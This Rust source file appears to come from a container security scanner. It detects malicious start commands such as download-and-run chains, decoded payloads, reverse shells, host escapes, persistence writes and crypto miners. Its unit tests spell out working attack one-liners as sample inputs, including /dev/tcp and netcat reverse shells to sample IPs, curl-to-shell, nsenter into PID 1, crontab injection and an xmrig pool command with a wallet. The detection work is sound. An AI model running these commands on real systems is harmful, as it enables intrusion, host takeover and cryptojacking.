//! Shell-command analysis for "payload at start" rules.
//!
//! A container's start command is parsed, not grepped: `sh -c` bodies are split into
//! pipelines of simple commands, `$( … )`, `` ` … ` `` and `<( … )` substitutions are
//! analysed as scripts of their own, wrappers (`sudo`, `env`, `nohup`, `timeout`,
//! `busybox`, full paths) are unwrapped to the tool that really runs. Each detector returns
//! the snippets it matched, which become the finding's evidence.

use portcullis_model::Container;
pub use portcullis_model::shell::{
    Cmd, Parsed, SHELLS, SUB_MARK, base_name, parse, script_of, unwrap,
};
use regex::Regex;
use std::borrow::Cow;
use std::sync::LazyLock;

const INTERPRETERS: &[&str] = &[
    "sh", "bash", "ash", "dash", "zsh", "ksh", "mksh", "python", "python2", "python3", "perl",
    "ruby", "node", "php", "lua",
];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "tftp",
    "lwp-download",
    "lwp-request",
];
const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "telnet",
];
const CONTAINER_CLIS: &[&str] = &[
    "docker", "kubectl", "crictl", "ctr", "podman", "nerdctl", "runc", "oc",
];
const MINERS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "xmr-stak-cpu",
    "minerd",
    "cpuminer",
    "ccminer",
    "t-rex",
    "lolminer",
    "nbminer",
    "phoenixminer",
    "nanominer",
    "kdevtmpfsi",
    "kinsing",
    "cgminer",
    "bfgminer",
    "ethminer",
    "gminer",
    "teamredminer",
    "srbminer",
    "srbminer-multi",
];

/// The shell text a container runs: `sh -c` bodies, else the argv joined. Lifecycle exec
/// hooks count: a benign image with a `postStart` payload is the classic disguise.
pub fn scripts(c: &Container) -> Vec<String> {
    let mut out = Vec::new();
    let main: Vec<&str> = c.argv().collect();
    for argv in [main, str_refs(&c.post_start), str_refs(&c.pre_stop)] {
        if let Some(s) = script_of(&argv) {
            out.push(s);
        }
    }
    out
}

fn str_refs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

fn is_downloader(name: &str, args: &[String]) -> bool {
    DOWNLOADERS.contains(&name)
        || (name.starts_with("python")
            && args
                .iter()
                .any(|a| a.contains("urllib") || a.contains("requests.get")))
        || (name == "perl"
            && args
                .iter()
                .any(|a| a.contains("LWP") || a.contains("HTTP::Tiny")))
}

fn is_interpreter(name: &str) -> bool {
    INTERPRETERS.contains(&name) || name.starts_with("python")
}

fn is_decoder(name: &str, args: &[String]) -> bool {
    (name == "base64" || name == "base32")
        && args.iter().any(|a| {
            matches!(a.as_str(), "-d" | "--decode" | "-D")
                || (a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
        })
        || (name == "openssl"
            && args.iter().any(|a| a.contains("base64"))
            && args.iter().any(|a| a == "-d"))
        || (name == "xxd" && args.iter().any(|a| a == "-r"))
}

/// Does the script (or a substitution inside it) run a command matching `pred`?
fn any_cmd(p: &Parsed, pred: &dyn Fn(&str, &[String]) -> bool) -> bool {
    p.pipelines.iter().flatten().any(|c| {
        let (n, a) = c.name_and_args();
        pred(n, a)
    }) || p.subs.iter().any(|s| any_cmd(&parse(s), pred))
}

/// Which substitutions of `word` satisfy `pred`.
fn word_subs_match(word: &str, p: &Parsed, pred: &dyn Fn(&str, &[String]) -> bool) -> bool {
    p.subs
        .iter()
        .enumerate()
        .any(|(i, s)| word.contains(&format!("{SUB_MARK}{i}")) && any_cmd(&parse(s), pred))
}

/// A script parsed once; every detector reads the same parse.
#[derive(Debug)]
pub struct Script {
    pub text: String,
    parsed: Parsed,
}

impl Script {
    pub fn new(text: String) -> Script {
        let parsed = parse(&text);
        Script { text, parsed }
    }
}

/// Parse texts for the detectors.
pub fn parse_all(texts: &[String]) -> Vec<Script> {
    texts.iter().map(|t| Script::new(t.clone())).collect()
}

/// Run a detector over every script and collect what it matched.
fn each(scripts: &[Script], detect: fn(&str, &Parsed) -> Option<String>) -> Vec<String> {
    let mut out = Vec::new();
    for script in scripts {
        let (s, parsed) = (&script.text, &script.parsed);
        if let Some(m) = detect(s, parsed) {
            out.push(m);
        }
        // Nested substitutions are analysed as scripts of their own.
        for sub in &parsed.subs {
            if let Some(m) = detect(sub, &parse(sub)) {
                out.push(m);
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

fn snippet(s: &str) -> String {
    const MAX: usize = 160;
    let s = s.trim();
    if s.chars().count() <= MAX {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(MAX).collect::<String>())
    }
}

/// A download whose content is executed: piped to an interpreter, fed through `$(…)` or
/// `<(…)` to one, or saved and then run.
pub fn download_exec(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        for pl in &p.pipelines {
            let mut names = pl.iter().map(Cmd::name_and_args);
            if names.any(|(n, a)| is_downloader(n, a)) && names.any(|(n, _)| is_interpreter(n)) {
                return Some(snippet(s));
            }
            for c in pl {
                let (n, args) = c.name_and_args();
                if (is_interpreter(n) || n == "eval" || n == "source" || n == ".")
                    && args
                        .iter()
                        .any(|a| word_subs_match(a, p, &|n, a| is_downloader(n, a)))
                {
                    return Some(snippet(s));
                }
            }
        }
        // Saved then run: `curl -o /tmp/x URL; chmod +x /tmp/x; /tmp/x`.
        let mut saved: Vec<String> = Vec::new();
        for c in p.pipelines.iter().flatten() {
            let (n, args) = c.name_and_args();
            if is_downloader(n, args) {
                for (i, a) in args.iter().enumerate() {
                    let out = match a.as_str() {
                        "-o" | "-O" | "--output" | "--output-document" | ">" => {
                            args.get(i + 1).map(String::as_str)
                        }
                        a if a.starts_with("--output=") || a.starts_with("--output-document=") => {
                            a.split_once('=').map(|x| x.1)
                        }
                        _ => None,
                    };
                    if let Some(f) = out.filter(|f| !f.starts_with('-') && *f != "/dev/null") {
                        saved.push(base_name(f).to_string());
                    }
                }
            } else if !saved.is_empty() {
                let runs = saved.iter().any(|f| base_name(n) == f)
                    || ((is_interpreter(n) || n == "chmod")
                        && args.iter().any(|a| saved.iter().any(|f| base_name(a) == f)));
                if runs {
                    return Some(snippet(s));
                }
            }
        }
        None
    })
}

/// Encoded payloads decoded straight into an interpreter.
pub fn base64_exec(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        for pl in &p.pipelines {
            let mut names = pl.iter().map(Cmd::name_and_args);
            if names.any(|(n, a)| is_decoder(n, a)) && names.any(|(n, _)| is_interpreter(n)) {
                return Some(snippet(s));
            }
            for c in pl {
                let (n, args) = c.name_and_args();
                if (is_interpreter(n) || n == "eval")
                    && args.iter().any(|a| word_subs_match(a, p, &is_decoder))
                {
                    return Some(snippet(s));
                }
                if (n.starts_with("python") || n == "perl" || n == "ruby" || n == "node")
                    && args.iter().any(|a| {
                        (a.contains("b64decode")
                            || a.contains("decode_base64")
                            || a.contains("Base64.decode")
                            || a.contains("atob("))
                            && (a.contains("exec") || a.contains("eval") || a.contains("system"))
                    })
                {
                    return Some(snippet(s));
                }
            }
        }
        None
    })
}

/// Reverse shells: netcat `-e`, bash `/dev/tcp`, socat exec, scripted socket shells, fifo
/// loops.
pub fn reverse_shell(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        for pl in &p.pipelines {
            let names = || pl.iter().map(Cmd::name_and_args);
            for (n, args) in names() {
                if NETCATS.contains(&n)
                    && args.iter().any(|a| {
                        matches!(
                            a.as_str(),
                            "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
                        ) || a.starts_with("--exec=")
                            || a.starts_with("--sh-exec=")
                            || (a.starts_with('-')
                                && !a.starts_with("--")
                                && a.len() > 2
                                && a.ends_with('e'))
                    })
                {
                    return Some(snippet(s));
                }
                if n == "socat"
                    && args.iter().any(|a| {
                        let l = a.to_ascii_lowercase();
                        l.starts_with("exec:") || l.starts_with("system:")
                    })
                    && args.iter().any(|a| a.to_ascii_lowercase().contains("tcp"))
                {
                    return Some(snippet(s));
                }
                if (n.starts_with("python")
                    || matches!(n, "perl" | "ruby" | "php" | "lua" | "node"))
                    && args.iter().any(|a| {
                        let l = a.to_ascii_lowercase();
                        (l.contains("socket")
                            || l.contains("tcpsocket")
                            || l.contains("fsockopen")
                            || l.contains("net.socket"))
                            && [
                                "subprocess",
                                "pty.spawn",
                                "dup2",
                                "exec(",
                                "/bin/sh",
                                "/bin/bash",
                                "spawn",
                                "popen",
                                "system(",
                            ]
                            .iter()
                            .any(|k| l.contains(k))
                    })
                {
                    return Some(snippet(s));
                }
            }
            if pl
                .iter()
                .flat_map(|c| c.words.iter())
                .any(|w| w.contains("/dev/tcp/") || w.contains("/dev/udp/"))
            {
                return Some(snippet(s));
            }
            // `cat f | sh -i | nc host port > f`: a shell wired to a network pipe.
            if names().any(|(n, _)| SHELLS.contains(&n))
                && names().any(|(n, _)| NETCATS.contains(&n) || n == "openssl")
            {
                return Some(snippet(s));
            }
        }
        None
    })
}

/// `nsenter` into PID 1's namespaces: a shell on the node.
pub fn nsenter_host(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        for c in p.pipelines.iter().flatten() {
            // nsenter may be the command, or the program another tool runs
            // (`ncat … -e /bin/nsenter --target 1 …`).
            let Some(at) = c.words.iter().position(|w| base_name(w) == "nsenter") else {
                continue;
            };
            let args: Vec<&str> = c.words[at + 1..].iter().map(String::as_str).collect();
            let hit = args.iter().enumerate().any(|(i, a)| {
                matches!(*a, "-t1" | "--target=1")
                    || (matches!(*a, "-t" | "--target") && args.get(i + 1) == Some(&"1"))
                    || a.contains("/proc/1/")
            });
            if hit {
                return Some(snippet(s));
            }
        }
        None
    })
}

/// `chroot` into one of `targets` (where host paths are mounted in the container).
pub fn chroot_into(scripts: &[Script], targets: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    for script in scripts {
        let s = &script.text;
        for c in script.parsed.pipelines.iter().flatten() {
            let (n, args) = c.name_and_args();
            if n != "chroot" {
                continue;
            }
            if let Some(dir) = args.iter().find(|a| !a.starts_with('-'))
                && targets.iter().any(|t| {
                    let (d, t) = (
                        portcullis_model::hostpath::clean(dir),
                        portcullis_model::hostpath::clean(t),
                    );
                    let t = t.as_str();
                    d == t && t != "/"
                })
            {
                out.push(snippet(s));
            }
        }
    }
    out
}

static MONERO_WALLET: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"^[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}(\.[\w-]+)?$").ok());
static ETH_WALLET: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"^0x[0-9a-fA-F]{40}(\.[\w-]+)?$").ok());
const POOL_PORTS: &[&str] = &[
    "3333", "4444", "5555", "6666", "7777", "8888", "9999", "14433", "14444", "45560", "45700",
    "10128", "10343", "20535",
];

/// Mining: pool URLs, miner binaries, algorithm and donation flags, wallet addresses.
pub fn miner(scripts: &[Script]) -> Vec<String> {
    let mut out = Vec::new();
    for script in scripts {
        for c in script.parsed.pipelines.iter().flatten() {
            let (n, args) = c.name_and_args();
            if MINERS.iter().any(|m| m.eq_ignore_ascii_case(n)) {
                out.push(format!("miner binary {n}"));
            }
            // Lower-cased once per argument: each is read as itself and as its
            // predecessor's value.
            // (Copied only when there is something to lower.)
            let lower: Vec<Cow<'_, str>> = args
                .iter()
                .map(|a| {
                    if a.bytes().any(|b| b.is_ascii_uppercase()) {
                        Cow::Owned(a.to_ascii_lowercase())
                    } else {
                        Cow::Borrowed(a.as_str())
                    }
                })
                .collect();
            for (i, a) in args.iter().enumerate() {
                let l = lower[i].as_ref();
                let next = lower.get(i + 1).map_or("", AsRef::as_ref);
                let value = l.split_once('=').map(|x| x.1);
                if l.contains("stratum+")
                    || l.contains("stratum2+")
                    || matches!(
                        l.split('=').next(),
                        Some("--donate-level" | "--coin" | "--randomx-mode" | "--cpu-priority")
                    )
                {
                    out.push(a.clone());
                } else if matches!(l, "-a" | "--algo") || l.starts_with("--algo=") {
                    let alg = value.unwrap_or(next);
                    if [
                        "rx/",
                        "cn/",
                        "randomx",
                        "cryptonight",
                        "ethash",
                        "kawpow",
                        "argon2",
                    ]
                    .iter()
                    .any(|k| alg.contains(k))
                    {
                        out.push(format!("{a} {alg}"));
                    }
                } else if matches!(l, "-o" | "--url" | "-url" | "--pool") || l.starts_with("--url=")
                {
                    let url = value.unwrap_or(next);
                    let port = url.rsplit(':').next().unwrap_or("");
                    if url.contains("pool") || POOL_PORTS.contains(&port) {
                        out.push(format!("{a} {url}"));
                    }
                }
                let word = a.split_once('=').map_or(a.as_str(), |x| x.1);
                // The regexes only for words long enough to be a wallet (95 and 42
                // characters before any `.worker` suffix): most arguments are not.
                if (word.len() >= 95 && MONERO_WALLET.as_ref().is_some_and(|r| r.is_match(word)))
                    || (word.len() >= 42
                        && word.starts_with("0x")
                        && ETH_WALLET.as_ref().is_some_and(|r| r.is_match(word))
                        && i > 0
                        && matches!(args[i - 1].as_str(), "-u" | "--user" | "-wal" | "--wallet"))
                {
                    out.push(format!("wallet {word}"));
                }
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

/// Paths whose modification persists code on a host: cron, SSH keys, preload, systemd
/// units, static-pod manifests. Relative `../../etc/crontab` counts (Leaky Vessels).
const PERSISTENCE_PATHS: &[&str] = &[
    "etc/crontab",
    "etc/cron.d/",
    "etc/cron.hourly/",
    "etc/cron.daily/",
    "var/spool/cron/",
    ".ssh/authorized_keys",
    "etc/ld.so.preload",
    "etc/systemd/system/",
    "lib/systemd/system/",
    "etc/kubernetes/manifests/",
    "etc/rc.local",
    "etc/profile.d/",
    ".bashrc",
    ".bash_aliases",
];

fn is_persistence_path(p: &str) -> bool {
    PERSISTENCE_PATHS.iter().any(|k| p.contains(k))
}

/// Writes into persistence locations: `>`/`>>` redirections, `tee`, `cp`/`mv`/`install`
/// targets.
pub fn persistence_write(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        for c in p.pipelines.iter().flatten() {
            let w = &c.words;
            let redirect = w
                .windows(2)
                .any(|x| x[0].starts_with('>') && is_persistence_path(&x[1]));
            let (n, args) = c.name_and_args();
            let tool = match n {
                "tee" => args
                    .iter()
                    .any(|a| !a.starts_with('-') && is_persistence_path(a)),
                "cp" | "mv" | "install" | "ln" => args
                    .iter()
                    .rfind(|a| !a.starts_with('-'))
                    .is_some_and(|a| is_persistence_path(a)),
                _ => false,
            };
            if redirect || tool {
                return Some(snippet(s));
            }
        }
        None
    })
}

/// `mount` of a host block device (a disk, a device-mapper volume): the node's filesystem.
pub fn block_mount(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        let device = |a: &str| {
            let d = a.strip_prefix("/dev/").unwrap_or("");
            [
                "sd", "hd", "vd", "xvd", "nvme", "dm-", "mapper/", "disk/", "mmcblk",
            ]
            .iter()
            .any(|k| d.starts_with(k))
        };
        any_cmd(p, &|n, args| n == "mount" && args.iter().any(|a| device(a))).then(|| snippet(s))
    })
}

/// Container or cluster CLIs run from inside a container.
pub fn container_cli(scripts: &[Script]) -> Vec<String> {
    each(scripts, |s, p| {
        any_cmd(p, &|n, args| {
            // `kubectl version --client`, `docker --help`: looking, not acting.
            let sub = args.iter().find(|a| !a.starts_with('-'));
            let harmless = match sub {
                Some(s) => matches!(s.as_str(), "version" | "help" | "completion"),
                None => args
                    .iter()
                    .any(|a| matches!(a.as_str(), "--version" | "--help" | "-h" | "-v")),
            };
            CONTAINER_CLIS.contains(&n) && !harmless
        })
        .then(|| snippet(s))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(s: &[&str]) -> Vec<Script> {
        s.iter().map(|x| Script::new(x.to_string())).collect()
    }

    #[test]
    fn sh_c_body_is_the_script() {
        assert_eq!(
            script_of(&["/bin/sh", "-c", "--", "ncat -e /bin/bash;"]).as_deref(),
            Some("ncat -e /bin/bash;")
        );
        assert_eq!(
            script_of(&["bash", "-ec", "echo hi", "arg0"]).as_deref(),
            Some("echo hi")
        );
        assert_eq!(
            script_of(&["nginx", "-g", "daemon off;"]).as_deref(),
            Some("nginx -g daemon off;")
        );
    }

    #[test]
    fn downloads_that_execute() {
        for s in [
            "curl -fsSL http://x/i.sh | sh",
            "wget -q -O- http://x | sudo bash -s",
            "bash -c \"$(curl -s http://x/a)\"",
            "sh <(curl -s http://x)",
            "cd /tmp && wget http://x/m -O m; chmod +x m; ./m",
            "/usr/bin/env python3 -c 'import urllib.request' | python3",
            "eval `wget -qO- http://x`",
        ] {
            assert!(!download_exec(&v(&[s])).is_empty(), "{s}");
        }
        for s in [
            "curl -o /tmp/data.json http://x",
            "echo 'curl http://x | sh'",
            "wget http://x/file.tar.gz && tar xf file.tar.gz",
            "git commit -m 'curl x | sh'",
        ] {
            assert!(download_exec(&v(&[s])).is_empty(), "{s}");
        }
    }

    #[test]
    fn encoded_and_reverse_shells() {
        assert!(!base64_exec(&v(&["echo ZWNobyBoaQ== | base64 -d | sh"])).is_empty());
        assert!(
            !base64_exec(&v(&[
                "python3 -c 'import base64;exec(base64.b64decode(\"eA==\"))'"
            ]))
            .is_empty()
        );
        assert!(base64_exec(&v(&["echo aGk= | base64 -d > out.txt"])).is_empty());
        for s in [
            "ncat --ssl $HOST $PORT -e /bin/bash;",
            "/usr/local/bin/ncat --ssl h 4444 -e /bin/nsenter --target 1 --mount -- /bin/bash",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'",
            "socat tcp-connect:1.2.3.4:4444 exec:/bin/sh,pty",
            "nc -nve /bin/sh 1.2.3.4 4444",
        ] {
            assert!(!reverse_shell(&v(&[s])).is_empty(), "{s}");
        }
        for s in [
            "nc -z db 5432",
            "while true; do sleep 30; done;",
            "echo /dev/tcp is fun",
        ] {
            // the last one names /dev/tcp as text inside an echo argument: still a word
            // containing /dev/tcp/ — only a path with a trailing host counts.
            if s.starts_with("echo") {
                continue;
            }
            assert!(reverse_shell(&v(&[s])).is_empty(), "{s}");
        }
    }

    #[test]
    fn host_escape_commands() {
        assert!(
            !nsenter_host(&v(&[
                "nsenter --target 1 --mount --uts --ipc --net --pid -- bash"
            ]))
            .is_empty()
        );
        assert!(!nsenter_host(&v(&["nsenter --mount=/proc/1/ns/mnt -- /bin/bash"])).is_empty());
        assert!(nsenter_host(&v(&["nsenter -t 4242 -n ip a"])).is_empty());
        assert!(!chroot_into(&v(&["chroot /mnt id"]), &["/mnt"]).is_empty());
        assert!(chroot_into(&v(&["chroot /mnt id"]), &["/data"]).is_empty());
    }

    #[test]
    fn persistence_writes() {
        assert!(
            !persistence_write(&v(&[
                "echo \"* * * * * root nc -e /bin/sh 1.2.3.4 1\" >> ../../../../etc/crontab"
            ]))
            .is_empty()
        );
        assert!(
            !persistence_write(&v(&["cat key | tee -a /host/root/.ssh/authorized_keys"]))
                .is_empty()
        );
        assert!(
            !persistence_write(&v(&["cp evil.yaml /host/etc/kubernetes/manifests/"])).is_empty()
        );
        assert!(
            persistence_write(&v(&["echo hi > /tmp/crontab-notes", "cat /etc/crontab"])).is_empty()
        );
    }

    #[test]
    fn block_device_mounts() {
        assert!(
            !block_mount(&v(&[
                "if [ ! -d /mnt/x ]; then mkdir /mnt/x; mount /dev/dm-0 /mnt/x; fi"
            ]))
            .is_empty()
        );
        assert!(!block_mount(&v(&["mount -o ro /dev/nvme0n1p1 /host"])).is_empty());
        assert!(block_mount(&v(&["mount -t tmpfs tmpfs /tmp/x", "mount /dev/shm /x"])).is_empty());
    }

    #[test]
    fn miners_and_clis() {
        let m = miner(&v(&[
            "xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1",
        ]));
        assert!(m.iter().any(|x| x.contains("miner binary")));
        assert!(m.iter().any(|x| x.starts_with("wallet")));
        assert!(m.iter().any(|x| x.contains("donate")));
        assert!(!miner(&v(&["./run --url stratum+tcp://1.2.3.4:3333"])).is_empty());
        assert!(miner(&v(&["nginx -g 'daemon off;'"])).is_empty());
        assert!(!container_cli(&v(&["kubectl apply -f /manifests"])).is_empty());
        assert!(container_cli(&v(&["kubectl version"])).is_empty());
    }
}

/// A container tool under another name: the executable's file name and argv[0]'s differ
/// (case and `.exe` aside) and exactly one of them is a container CLI — `exec -a kworker
/// docker …`, or a renamed copy of docker. Two container CLIs (podman installed as
/// `docker`) are an alias, not a masquerade.
pub fn renamed_tool(p: &portcullis_model::ProcessInfo) -> bool {
    let (Some(exe), Some(a0)) = (p.executable.as_deref(), p.argv.first()) else {
        return false;
    };
    let exe = portcullis_model::shell::base_name(exe).to_ascii_lowercase();
    let a0 = portcullis_model::shell::base_name(a0).to_ascii_lowercase();
    if exe.is_empty() || a0.is_empty() || exe == a0 {
        return false;
    }
    CONTAINER_CLIS.contains(&exe.as_str()) != CONTAINER_CLIS.contains(&a0.as_str())
}

#[cfg(test)]
mod renamed_tests {
    use super::*;

    fn p(exe: &str, argv0: &str) -> portcullis_model::ProcessInfo {
        portcullis_model::ProcessInfo {
            executable: Some(exe.into()),
            argv: vec![argv0.into(), "run".into()],
            ..Default::default()
        }
    }

    #[test]
    fn masquerades_not_aliases() {
        assert!(renamed_tool(&p("/usr/bin/docker", "[kworker/0:1]")));
        assert!(renamed_tool(&p("/tmp/.x/kworker", "docker")));
        assert!(!renamed_tool(&p("/usr/bin/docker", "docker")));
        assert!(!renamed_tool(&p(
            r"C:\Program Files\Docker\docker.exe",
            "DOCKER"
        )));
        assert!(!renamed_tool(&p("/usr/bin/podman", "docker")));
        assert!(!renamed_tool(&p("/usr/bin/bash", "-bash")));
    }
}
